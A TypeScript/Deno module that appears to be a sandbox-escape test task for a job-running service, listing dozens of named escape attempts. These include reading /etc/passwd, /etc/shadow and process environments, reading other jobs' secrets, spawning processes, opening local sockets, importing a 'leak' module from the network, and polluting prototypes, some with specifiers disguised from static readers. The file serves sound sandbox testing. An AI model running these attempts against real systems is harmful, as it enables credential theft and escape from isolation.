/**
 * A task that tries to get out of its sandbox. It imports nothing, so that it runs wherever it lies.
 *
 * @module
 */
import type { Task } from "../../task.ts";

/** What it is told about the world outside. */
export interface Outside {
  /** A file of another job. */
  readonly other: string;
  /** The folder where the service keeps everybody's jobs. */
  readonly data: string;
  /** A link in its own project that leads out of it. */
  readonly link: string;
  /** A port of this machine where somebody listens. */
  readonly port: number;
}

/** Kept from the eyes of whoever reads the module before it runs. */
const hidden = (specifier: string) => specifier;
const read = (path: string) => Deno.readTextFileSync(path);
const asText = { with: { type: "text" } };
const asJson = { with: { type: "json" } };
const code = (text: string) => `data:application/javascript,${encodeURIComponent(text)}`;

/** Ways out, by name. */
const ways = {
  readSystem: () => read("/etc/passwd"),
  readThroughNode: async () => (await import("node:fs")).readFileSync("/etc/passwd"),
  readLater: async () => await Deno.readTextFile("/etc/passwd"),
  readEnvironmentOfService: () => read(`/proc/${Deno.ppid}/environ`),
  readOwnProcess: () => read("/proc/self/environ"),
  readThroughDevice: () => read("/dev/fd/0"),
  readOtherJob: ({ other }) => read(other),
  readServiceData: ({ data }) => read(`${data}/flyball.db`),
  readFolderOfJob: ({ data }) => read(`${data}/run/jobs/1.1/1/secret`),
  listFoldersOfJobs: ({ data }) => [...Deno.readDirSync(`${data}/run/jobs`)],
  importFolderOfJob: ({ data }) => import(hidden(`${data}/run/jobs/1.1/1/secret`), asText),
  readWorkspace: ({ data }) => [...Deno.readDirSync(`${data}/workspaces`)],
  readThroughLink: ({ link }) => read(`${link}/passwd`),
  fetchFile: () => fetch("file:///etc/passwd"),
  importText: () => import(hidden("/etc/passwd"), asText),
  importJson: ({ other }) => import(hidden(other), asJson),
  importModule: () => import(hidden("/etc/passwd.js")),
  importOfImport: () =>
    import(code('import text from "file:///etc/shadow" with { type: "text" };')),
  importThroughLink: ({ link }) => import(hidden(`${link}/passwd`), asText),
  importFromNet: () => import(hidden("https://deno.land/x/leak.ts?secret")),
  requireJson: async ({ other }) =>
    (await import("node:module")).createRequire(import.meta.url)(other),
  write: () => Deno.writeTextFileSync("/tmp/flyball-escaped", ""),
  writeTemporary: () => Deno.makeTempFileSync(),
  writeOtherJob: ({ other }) => Deno.writeTextFileSync(other, ""),
  makeLink: () => Deno.symlinkSync("/etc", "/tmp/flyball-escaped"),
  openDatabase: async ({ data }) =>
    new (await import("node:sqlite")).DatabaseSync(`${data}/flyball.db`),
  connect: ({ port }) => Deno.connect({ port }),
  connectUnspecified: ({ port }) => Deno.connect({ hostname: "0.0.0.0", port }),
  connectParent: () => Deno.connect({ transport: "unix", path: Deno.args[0]! }),
  connectThroughNode: async ({ port }) => {
    const { connect } = await import("node:net");
    const { promise, reject } = Promise.withResolvers();
    connect(port, "127.0.0.1").on("error", reject);
    return promise;
  },
  fetchService: ({ port }) => fetch(`http://127.0.0.1:${port}/`),
  listen: () => Deno.listen({ port: 0 }),
  resolveName: () => Deno.resolveDns("example.com", "A"),
  spawn: () => new Deno.Command("id").outputSync(),
  spawnThroughNode: async () =>
    (await import("node:child_process")).execFileSync("/bin/id", { env: {} }),
  killService: () => Deno.kill(Deno.ppid, "SIGCONT"),
  readVariable: () => Deno.env.get("HOME"),
  readVariables: () => Deno.env.toObject(),
  nativeCode: () => Deno.dlopen("libc.so.6", {}),
  nameOfMachine: () => Deno.hostname(),
  coresThroughNode: async () => (await import("node:os")).cpus(),
  inspector: async () => (await import("node:inspector")).open(0),
  localStorage: () => localStorage.setItem("leak", "x"),
  caches: () => caches.open("leak"),
  webWorker: () => new Worker(code("postMessage(1)"), { type: "module" }),
  internals: () =>
    (Deno as unknown as { internal: keyof typeof Deno })[
      (Deno as unknown as { internal: keyof typeof Deno }).internal as never
    ],
  revokeNeighbours: () => Deno.permissions.revokeSync({ name: "read" }),
  replaceStringify: () => JSON.stringify = () => '"forged"',
  replaceThen: () => Promise.prototype.then = () => Promise.prototype,
  replacePush: () => Array.prototype.push = () => 0,
  replaceExit: () => Deno.exit = () => undefined as never,
} satisfies Readonly<Record<string, (outside: Outside) => unknown>>;

/** A way out. */
export type Way = keyof typeof ways;

/** What it is asked to do. */
export interface Attempt extends Outside {
  readonly way: Way | "pollute" | "work" | "list";
  /** Keeps to itself that it was denied. */
  readonly quiet: boolean;
}

export default {
  kind: "flyball.task",
  run: async ({ way, quiet, ...outside }): Promise<unknown> => {
    if (way === "list") return Object.keys(ways);
    if (way === "work") return { text: "x".repeat(3), list: [1, 2].map((n) => n * 2) };
    if (way === "pollute") return pollute();
    try {
      return String(await ways[way](outside)).slice(0, 100);
    } catch (error) {
      if (quiet) return "denied";
      throw error;
    }
  },
} satisfies Task<Attempt>;

/** Names that all objects would have, were they to be had. */
function pollute(): string[] {
  return ["toJSON", "then", "invented"].filter((name) =>
    Reflect.defineProperty(Object.prototype, name, { value: () => "forged" })
  );
}
